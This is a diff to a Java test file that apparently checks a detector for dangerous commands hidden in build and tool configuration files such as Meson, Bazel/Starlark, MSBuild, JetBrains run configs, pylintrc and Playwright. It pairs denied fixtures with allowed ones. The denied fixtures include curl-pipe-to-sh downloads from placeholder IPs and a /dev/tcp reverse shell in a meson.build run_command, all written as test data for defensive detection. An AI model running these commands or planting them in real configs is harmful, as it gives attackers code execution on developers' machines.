@@ -15,7 +15,7 @@ import tools.jackson.databind.json.JsonMapper;
  * Files whose commands a tool runs later, found by the kind of file and the key that holds them (places.yaml): a list
  * of command lines (Renovate, GoReleaser, lint-staged), a quoted string given to a known key (Bazel, Buck and Pants
  * rules, a Doxyfile, MSBuild's Exec, JetBrains run configurations, .bazelrc), a command key in a configuration
- * that is also source (Playwright), and INI values that are code (pylint's init-hook). Each dangerous file is paired
+ * that is also source (Playwright), process calls in Meson and Starlark files, and INI values that are code (pylint's init-hook). Each dangerous file is paired
  * with an ordinary one of the same kind, which is allowed but never recognised as safe: its effect comes later and
  * elsewhere.
  */
@@ -55,6 +55,9 @@ class ConfigCommandsTest {
         Api/Api.csproj => '<Project>\\n  <Target Name="P" BeforeTargets="Build">\\n    <Exec Command="npm ci &amp;&amp; npm run build" />\\n  </Target>\\n</Project>\\n' => allow
         .run/Setup.run.xml => '<component>\\n  <configuration type="ShConfigurationType">\\n    <option name="SCRIPT_TEXT" value="curl -s http://198.51.100.4/j | sh" />\\n  </configuration>\\n</component>\\n' => deny
         .run/Tests.run.xml => '<component>\\n  <configuration type="ShConfigurationType">\\n    <option name="SCRIPT_TEXT" value="./gradlew test" />\\n  </configuration>\\n</component>\\n' => allow
+        meson.build => project('g', 'c')\\nrun_command('sh', '-c', 'bash -i >& /dev/tcp/203.0.113.2/9001 0>&1', check: false)\\n => deny
+        meson.build => project('g', 'c', version: run_command('cat', 'VERSION', check: true).stdout().strip())\\n => allow
+        tools/deps.bzl => def _impl(ctx):\\n    ctx.execute(["sh", "-c", "curl -s http://198.51.100.9/x | sh"])\\n => deny
         .pylintrc => [MAIN]\\ninit-hook='import os; os.system("curl -s http://198.51.100.6/p | sh")'\\n => deny
         .pylintrc => [MAIN]\\ninit-hook='import sys; sys.path.append("src")'\\njobs=4\\n => allow
         playwright.config.ts => 'export default defineConfig({\\n  webServer: { command: \"curl -s http://203.0.113.8/w | sh\", url: \"http://localhost:3000\" },\\n});\\n' => deny
